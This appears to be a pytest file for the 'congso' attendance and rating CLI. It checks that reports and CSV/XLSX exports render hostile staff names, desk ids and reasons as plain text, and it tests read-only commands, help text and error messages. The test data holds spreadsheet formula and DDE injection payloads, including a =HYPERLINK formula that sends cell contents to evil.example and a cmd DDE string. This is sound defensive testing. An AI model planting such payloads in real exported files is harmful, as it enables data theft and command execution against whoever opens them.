"""The ``congso`` command as a user meets it: read-only commands, every report file, help, and no formulas.

Each command runs as a real subprocess (``run_congso``) on a real gateway
database; the XLSX files are read back with openpyxl and the CSV files
with the csv module, as a clerk's spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import uuid
from pathlib import Path

import click
import openpyxl
import pytest

from congso.cli import main
from congso.gateway.db import open_db

from conftest import run_congso

# Texts that Excel or LibreOffice would take for a formula or DDE (OWASP).
EVIL = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+SUM(1,2)",
    "at": "@SUM(1,2)",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
CONTROL_NAME = "Trần\x07Văn\x00 Cường"  # a bell and a NUL from a bad export
CONTROL_SHOWN = "TrầnVăn Cường"         # what a workbook can hold of it


def _fill(data: Path) -> None:
    """A gateway database with hostile staff, desks and reasons, inserted with sqlite3 as a
    careless import or an old version could have left them (past input cleaning)."""
    open_db(data / "gateway.sqlite").conn.close()
    conn = sqlite3.connect(data / "gateway.sqlite")
    people = [("NV%03d" % i, f"{EVIL[k]}", EVIL[k]) for i, k in enumerate(EVIL, start=1)]
    people.append(("NV099", CONTROL_NAME, "Văn\x0bphòng"))
    people.append(("=NV100", "Lê Thị Bình", "@Văn phòng"))
    with conn:
        for sid, name, dept in people:
            conn.execute("INSERT INTO staff(staff_id, name, department, active, added_at) VALUES (?,?,?,1,?)",
                         (sid, name, dept, "2026-10-01T08:00:00+07:00"))
        for seq, (sid, _name, _dept) in enumerate(people, start=1):
            ts = "2026-10-05T07:25:00+07:00"
            conn.execute(
                "INSERT INTO attendance_events(event_id, node_id, seq, ts, local_date, clock_synced, received_at,"
                " payload, method, credential, staff_id, match_score) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)",
                (str(uuid.uuid4()), "door-1", seq, ts, "2026-10-05", 1, ts, "{}", "card", "=0A0B0C0D", sid, None))
        votes = [("=HYPERLINK(\"http://evil.example\")", "satisfied", [], "NV001"),
                 ("+quay-1", "dissatisfied", ["=cmd|' /C calc'!A0"], "NV002"),
                 ("@quay-2", "very_dissatisfied", ["-1+1", "thai_do"], "NV099")]
        for seq, (desk, level, reasons, officer) in enumerate(votes, start=1):
            ts = "2026-10-06T09:00:00+07:00"
            conn.execute(
                "INSERT INTO rating_events(event_id, node_id, seq, ts, local_date, clock_synced, received_at, payload,"
                " desk_id, level, reasons, session_id, officer_id, dossier_code) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
                (str(uuid.uuid4()), "kiosk-1", seq, ts, "2026-10-06", 1, ts, "{}", desk, level,
                 json.dumps(reasons), None, officer, "=HS-1"))
    conn.close()


def _cells(path: Path) -> list:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_text_cells(path: Path, texts: list[str]) -> None:
    """No cell in the workbook is a formula, and each text is a cell exactly as typed, of type text."""
    cells = _cells(path)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"{path.name} holds formulas: {formulas}"
    by_value = {}
    for c in cells:
        by_value.setdefault(c.value, c)
    for t in texts:
        assert t in by_value, f"{t!r} not in {path.name}"
        assert by_value[t].data_type == "s", (t, by_value[t].data_type)


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _read(path: Path) -> str:
    """A CSV file's text as the csv module must read it (a CR inside a field stays a CR)."""
    with path.open(encoding="utf-8", newline="") as f:
        return f.read()


def _safe(t: str) -> str:
    return "'" + t


@pytest.fixture
def office(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    _fill(data)
    return data


def cli(data: Path, *args: str, ok: bool = True):
    r = run_congso(*args, CONGSO_DATA_DIR=str(data), CONGSO_SITE_NAME="=UBND xã Thử")
    if ok:
        assert r.returncode == 0, r.stderr
    return r


# -- issue 14.6: formula injection -----------------------------------------------------------
def test_timesheet_xlsx_and_csv_hold_hostile_names_as_text(office, tmp_path):
    xlsx, out = tmp_path / "t.xlsx", tmp_path / "t.csv"
    cli(office, "report", "attendance", "--month", "2026-10", "--xlsx", str(xlsx), "--csv", str(out))
    # The control character did not stop the month's workbook; every name is there as text.
    xlsx_texts = [t for t in EVIL.values() if not t.startswith("\r")]
    # The official form has no staff id column; the position column shows the department when no position.
    _assert_text_cells(xlsx, [*xlsx_texts, CONTROL_SHOWN, "@Văn phòng", "Đơn vị: =UBND xã Thử"])
    rows = {r[0]: r for r in _csv_rows(_read(out))}
    header = _csv_rows(_read(out))[0]
    assert header[:4] == ["staff_id", "name", "position", "department"]
    for i, t in enumerate(EVIL.values(), start=1):
        row = rows["NV%03d" % i]
        assert row[1] == _safe(t) and row[3] == _safe(t), row[:4]
    assert rows[_safe("=NV100")][3] == _safe("@Văn phòng")
    # Symbols congso writes stay as they are: "+" worked (the 5th), "V" absent (the 6th), "" a Sunday (the 4th).
    assert [rows["NV001"][header.index(d)] for d in ("4", "5", "6")] == ["", "+", "V"]

    day = cli(office, "report", "attendance", "--day", "2026-10-05", "--csv", "-").stdout
    day_rows = {r[0]: r for r in _csv_rows(day)}
    assert day_rows["NV001"][1] == _safe(EVIL["hyperlink"]) and day_rows[_safe("=NV100")][2] == _safe("@Văn phòng")
    lines = cli(office, "report", "attendance", "--day", "2026-10-05", "--json", "-").stdout.splitlines()
    assert {json.loads(line)["name"] for line in lines} >= {EVIL["dde"], CONTROL_NAME}


@pytest.mark.parametrize("by", ["officer", "desk", "reason"])
def test_ratings_xlsx_and_csv_hold_hostile_text_as_text(office, tmp_path, by):
    xlsx, out = tmp_path / f"r-{by}.xlsx", tmp_path / f"r-{by}.csv"
    cli(office, "report", "ratings", "--from", "2026-10-01", "--to", "2026-10-31", "--by", by,
        "--xlsx", str(xlsx), "--csv", str(out))
    expected = {"officer": [EVIL["hyperlink"], EVIL["dde"], CONTROL_SHOWN],
                "desk": ['=HYPERLINK("http://evil.example")', "+quay-1", "@quay-2"],
                "reason": ["=cmd|' /C calc'!A0", "-1+1"]}[by]
    _assert_text_cells(xlsx, ["=UBND xã Thử", *expected])
    fields = {f for row in _csv_rows(_read(out)) for f in row}
    for t in expected:
        if t != CONTROL_SHOWN:
            assert _safe(t) in fields and t not in fields, (t, fields)
    assert _safe("=UBND xã Thử") in fields


def test_events_export_csv_is_formula_safe(office, tmp_path):
    out = tmp_path / "events.csv"
    cli(office, "events", "export", "--format", "csv", "-o", str(out))
    rows = list(csv.DictReader(io.StringIO(_read(out))))
    assert {r["credential"] for r in rows if r["kind"] == "attendance"} == {"'=0A0B0C0D"}
    assert {r["desk_id"] for r in rows if r["kind"] == "rating"} == {
        "'=HYPERLINK(\"http://evil.example\")", "'+quay-1", "'@quay-2"}
    assert {r["dossier_code"] for r in rows if r["kind"] == "rating"} == {"'=HS-1"}
    assert any(r["reasons"] == "'-1+1;thai_do" for r in rows)


def test_listing_csv_is_formula_safe_and_json_is_exact(office):
    rows = {r[0]: r for r in _csv_rows(cli(office, "staff", "list", "--csv").stdout)}
    assert rows["NV001"][1] == _safe(EVIL["hyperlink"]) and rows[_safe("=NV100")][1] == "Lê Thị Bình"
    people = {p["staff_id"]: p for p in map(json.loads, cli(office, "staff", "list", "--json").stdout.splitlines())}
    assert people["NV002"]["name"] == EVIL["dde"] and people["NV099"]["name"] == CONTROL_NAME
    # The table shows the names as text: no control character reaches the terminal.
    table = cli(office, "staff", "list").stdout
    assert "\x07" not in table and "\x00" not in table and "Cường" in table


# -- issue 13 (f): --csv - and --xlsx together ---------------------------------------------
def test_ratings_csv_to_stdout_also_writes_the_xlsx(office, tmp_path):
    xlsx = tmp_path / "both.xlsx"
    r = cli(office, "report", "ratings", "--from", "2026-10-01", "--to", "2026-10-31", "--csv", "-", "--xlsx", str(xlsx))
    assert xlsx.exists(), "the workbook was not written"
    wb = openpyxl.load_workbook(xlsx)
    assert any(c.value == 3 for row in wb.active.iter_rows() for c in row)  # the total of 3 votes
    rows = _csv_rows(r.stdout)
    assert rows[0][0] == "Đơn vị" and rows[-1][2] == "Tổng cộng"  # standard output is the CSV only


# -- issue 13 (d): read-only commands never create a database ----------------------------------
READ_ONLY = [
    ["staff", "list"], ["card", "unknown"], ["holiday", "list"], ["dossier", "list"], ["calendar", "list"],
    ["announce", "list"], ["desk", "list"], ["nodes"], ["report", "attendance", "--month", "2026-10"],
    ["report", "ratings", "--from", "2026-10-01", "--to", "2026-10-31"], ["events", "export", "--format", "csv"],
]


@pytest.mark.parametrize("args", READ_ONLY, ids=" ".join)
def test_read_only_command_with_a_wrong_data_dir_names_it_and_creates_nothing(tmp_path, args):
    wrong = tmp_path / "no-such-dir"
    r = run_congso(*args, CONGSO_DATA_DIR=str(wrong))
    assert r.returncode != 0
    assert f"no gateway database at {wrong / 'gateway.sqlite'}" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr and "0 staff" not in r.stdout
    assert not wrong.exists(), "a read-only command created the data dir"


def test_read_only_command_in_an_empty_data_dir_creates_no_database(tmp_path):
    r = run_congso("staff", "list", CONGSO_DATA_DIR=str(tmp_path))
    assert r.returncode != 0 and "no gateway database" in r.stderr
    assert not (tmp_path / "gateway.sqlite").exists()


# -- issue 13 (g): help that teaches -----------------------------------------------------------
def _commands(group: click.Group, path=()):
    yield path, group
    for name, cmd in group.commands.items():
        if isinstance(cmd, click.Group):
            yield from _commands(cmd, (*path, name))
        else:
            yield (*path, name), cmd


ALL = list(_commands(main))


@pytest.mark.parametrize("path,cmd", ALL, ids=[" ".join(p) or "congso" for p, _ in ALL])
def test_every_command_and_option_has_help_with_an_example(path, cmd):
    text = cmd.help or ""
    assert text.strip(), f"congso {' '.join(path)} has no help"
    # An example is an indented line that runs congso (after sudo or variables).
    assert re.search(r"^\s+(sudo .*|\S+=\S+ .*)?congso [a-z]", text, re.M), f"congso {' '.join(path)}: no example"
    for p in cmd.params:
        if isinstance(p, click.Option) and not p.hidden:
            assert p.help, f"congso {' '.join(path)} {p.opts[0]} has no help"


def test_holiday_list_remove_and_timeouts_explain_themselves():
    for args in (["holiday", "list"], ["holiday", "remove"], ["enroll"], ["node", "identify"], ["node", "cmd"],
                 ["node", "reload"], ["node", "screenshot"]):
        r = run_congso(*args, "--help")
        assert r.returncode == 0 and "Example" in r.stdout, (args, r.stdout)
        if args[0] in ("enroll", "node"):
            line = next(x for x in r.stdout.splitlines() if "--timeout" in x)
            assert "Seconds to wait" in line, line


def test_the_docs_the_cli_cites_exist():
    root = Path(__file__).resolve().parents[1]
    text = "\n".join((cmd.help or "") for _, cmd in ALL) + (main.callback.__doc__ or "")
    import congso.cli as cli_pkg

    text += cli_pkg.__doc__ or ""
    for cited in set(re.findall(r"docs/[\w./-]+\.md", text)):
        assert (root / cited).exists(), f"the CLI cites {cited}, which does not exist"
    assert "Settings" in (cli_pkg.__doc__ or "") and "## Settings" in (root / "README.md").read_text(encoding="utf-8")


# -- the library the CLI (and the console) calls ----------------------------------------------
def test_enrolment_refuses_who_is_not_active_staff_before_queueing_anything(office):
    from congso.gateway import enrolment

    db = open_db(office / "gateway.sqlite")
    with pytest.raises(enrolment.EnrolmentError, match="no active staff member 'NV404'"):
        enrolment.start(db, "door-1", "NV404")
    assert db.execute("SELECT count(*) FROM outgoing_commands").fetchone()[0] == 0
    r = cli(office, "enroll", "--node", "door-1", "--staff", "NV404", ok=False)
    assert r.returncode != 0 and "no active staff member 'NV404' (congso staff list)" in r.stderr


def test_remote_and_reports_say_what_is_wrong_without_a_gateway(office):
    from congso.gateway import remote, reports

    db = open_db(office / "gateway.sqlite")
    with pytest.raises(remote.RemoteError):
        remote.ask(db, "Not A Node!", "identify", timeout_s=0.1)
    with pytest.raises(remote.RemoteError, match="identify on door-1: .*is the gateway running"):
        remote.ask(db, "door-1", "identify", timeout_s=0.1)  # nobody sends it: no gateway runs here
    with pytest.raises(reports.ReportError, match="--day YYYY-MM-DD or --month YYYY-MM"):
        reports.attendance(db, None, "Asia/Ho_Chi_Minh")
    r = cli(office, "report", "ratings", "--from", "2026-10-31", "--to", "2026-10-01", ok=False)
    assert r.returncode != 0 and "--from 2026-10-31 is after --to 2026-10-01" in r.stderr


def test_status_names_the_file_it_could_not_find(tmp_path):
    r = run_congso("status", CONGSO_DATA_DIR=str(tmp_path))
    assert r.returncode != 0 and f"no {tmp_path / 'status.json'}" in r.stderr and "Traceback" not in r.stderr


ALL_CONTROLS = ("".join(chr(c) for c in range(0x20)) + "\x7f" + "".join(chr(c) for c in range(0x80, 0xA0))
                + "\u00ad\u200b\u200e\u200f\u202a\u202e\u2066\u2069\ufeff\ufff9\ufffe\uffff")


def test_every_report_survives_every_control_and_format_character(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    open_db(data / "gateway.sqlite").conn.close()
    conn = sqlite3.connect(data / "gateway.sqlite")
    name = "Phạm" + ALL_CONTROLS + "Văn An"
    ts = "2026-10-05T07:25:00+07:00"
    with conn:
        conn.execute("INSERT INTO staff(staff_id, name, department, active) VALUES ('NV001', ?, ?, 1)", (name, name))
        conn.execute("INSERT INTO attendance_events(event_id, node_id, seq, ts, local_date, clock_synced, received_at,"
                     " payload, method, credential, staff_id, match_score) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)",
                     ("e1", "door-1", 1, ts, "2026-10-05", 1, ts, "{}", "card", ALL_CONTROLS, "NV001", None))
        conn.execute("INSERT INTO rating_events(event_id, node_id, seq, ts, local_date, clock_synced, received_at,"
                     " payload, desk_id, level, reasons, session_id, officer_id, dossier_code)"
                     " VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
                     ("e2", "kiosk-1", 1, ts, "2026-10-05", 1, ts, "{}", "quay" + ALL_CONTROLS, "dissatisfied",
                      json.dumps([ALL_CONTROLS]), None, "NV001", ALL_CONTROLS))
    conn.close()
    for by in ("officer", "desk", "reason"):
        xlsx = tmp_path / f"r-{by}.xlsx"
        cli(data, "report", "ratings", "--from", "2026-10-01", "--to", "2026-10-31", "--by", by, "--xlsx", str(xlsx),
            "--csv", str(tmp_path / f"r-{by}.csv"))
        assert openpyxl.load_workbook(xlsx)
    xlsx = tmp_path / "t.xlsx"
    cli(data, "report", "attendance", "--month", "2026-10", "--xlsx", str(xlsx), "--csv", str(tmp_path / "t.csv"))
    values = [c.value for c in _cells(xlsx)]
    assert any(isinstance(v, str) and v.startswith("Phạm") and v.endswith("Văn An") for v in values)
    cli(data, "report", "attendance", "--day", "2026-10-05")
    cli(data, "events", "export", "--format", "csv", "-o", str(tmp_path / "e.csv"))
    assert "Văn An" in cli(data, "staff", "list").stdout


def test_enrolment_says_where_the_finger_is_stored(office):
    from congso.gateway import enrolment, staff

    db = open_db(office / "gateway.sqlite")
    staff.record_finger(db, "door-1", 7, "NV001", "door-1")
    staff.record_finger(db, "door-2", 3, "NV001", "door-1")
    assert enrolment.carried(db, "NV001") == {"door-1": 7, "door-2": 3}
    assert enrolment.finish(db, "door-1", "NV001", {"slot": 7}).summary().startswith("enrolled NV001 at door-1 in slot 7")
    with pytest.raises(enrolment.EnrolmentError, match="without a slot"):
        enrolment.finish(db, "door-1", "NV001", {})
